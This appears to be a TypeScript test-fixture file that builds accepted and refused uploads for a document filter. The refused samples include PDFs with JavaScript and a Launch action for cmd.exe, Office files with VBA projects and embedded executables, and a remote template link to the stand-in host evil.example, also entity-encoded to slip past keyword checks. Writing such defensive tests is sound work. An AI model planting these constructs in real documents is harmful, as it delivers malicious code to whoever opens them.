import { deflateSync } from 'node:zlib';
import CFB from 'cfb';
import { sampleFile } from '../../cli/conformance/samples/sampleFile.ts';
import { buildOffice } from '../../cli/testing/office/buildOffice.ts';

export interface Upload {
  name: string;
  content: Buffer;
}

const program = Buffer.concat([Buffer.from('MZ\x90\x00', 'latin1'), Buffer.alloc(300, 7)]);
const page = Buffer.from('<!doctype html><html><script>alert(1)</script></html>');

/** Files that are taken; in none of them stands a word of `looksDisallowed`. */
export function fineSeeds(): Upload[] {
  return [
    sampleFile('a.pdf'),
    sampleFile('a.docx'),
    sampleFile('a.xlsx'),
    sampleFile('a.ppt'),
    { name: 'b.pdf', content: pdfWith('<</S/URI/URI(https://example.com)>>', pack('<</Title(Anna)>>')) },
    {
      name: 'b.docx',
      content: buildOffice('docx', [{ name: 'word/media/a.png', data: Buffer.alloc(400, 3) }]),
    },
    { name: 'b.ppt', content: deck() },
  ];
}

/** Files that are refused: each runs something, carries something, or is not what its name says. */
export function disallowedSeeds(): Upload[] {
  const external =
    '<Relationship TargetMode="External" Target="http://evil.example/a.dotm" Type="x/attachedTemplate" Id="r"/>';
  const relations = (text: string) => [
    { name: 'word/_rels/document.xml.rels', data: `<Relationships>${text}</Relationships>` },
  ];
  return [
    { name: 'a.pdf', content: pdfWith('<</S/JavaScript/JS(app.alert(1))>>') },
    { name: 'a.pdf', content: pdfWith('<</Names<</JavaScript 9 0 R>>>>') },
    { name: 'a.pdf', content: pdfWith('<</S/Launch/F(cmd.exe)>>') },
    { name: 'a.pdf', content: pdfWith(pack('<</S/JavaScript/JS(1)>>')) },
    { name: 'a.pdf', content: pdfWith('<</EF<</F 11 0 R>>>>', stream('<</Type/EmbeddedFile>>', program)) },
    { name: 'a.docx', content: buildOffice('docx', [{ name: 'word/vbaProject.bin', data: program }]) },
    { name: 'a.docx', content: buildOffice('docx', relations(external)) },
    { name: 'a.docx', content: buildOffice('docx', relations(respelled(external))) },
    { name: 'a.docx', content: buildOffice('docx', [{ name: 'word/embeddings/a.exe', data: program }]) },
    { name: 'a.xlsx', content: buildOffice('xlsx', [{ name: 'xl/vbaProject.bin', data: program }]) },
    { name: 'a.ppt', content: deck({ '/_VBA_PROJECT_CUR/VBA/dir': program }) },
    { name: 'a.pdf', content: program },
    { name: 'a.docx', content: program },
    { name: 'a.ppt', content: program },
    { name: 'a.pdf', content: page },
    { name: 'a.exe', content: program },
    { name: 'a.html', content: page },
  ];
}

/** Letters as XML may write them, too. */
function respelled(text: string): string {
  return text.replace(/External|attachedTemplate/g, (name) =>
    [...name].map((letter) => `&#x${letter.charCodeAt(0).toString(16)};`).join(''),
  );
}

function deck(others: Record<string, Buffer> = {}): Buffer {
  const file = CFB.utils.cfb_new();
  const record = Buffer.alloc(5008);
  record.writeUInt16LE(0xf, 0);
  record.writeUInt16LE(0x03e8, 2);
  record.writeUInt32LE(5000, 4);
  CFB.utils.cfb_add(file, '/PowerPoint Document', record);
  for (const [name, content] of Object.entries(others)) CFB.utils.cfb_add(file, name, content);
  return Buffer.from(CFB.write(file, { type: 'buffer' }) as Buffer);
}

function pdfWith(...objects: string[]): Buffer {
  const bodies = objects.map((object, index) => `${index + 10} 0 obj\n${object}\nendobj\n`);
  return Buffer.from(`%PDF-1.7\n${bodies.join('')}trailer<</Size 1>>\nstartxref\n0\n%%EOF\n`, 'latin1');
}

/** An object among packed ones. */
function pack(object: string): string {
  const packed = deflateSync(`9 0 ${object}`);
  return stream(`<</Type/ObjStm/N 1/First 4/Filter/FlateDecode/Length ${packed.length}>>`, packed);
}

function stream(dictionary: string, bytes: Buffer): string {
  return `${dictionary}stream\n${bytes.toString('latin1')}\nendstream`;
}
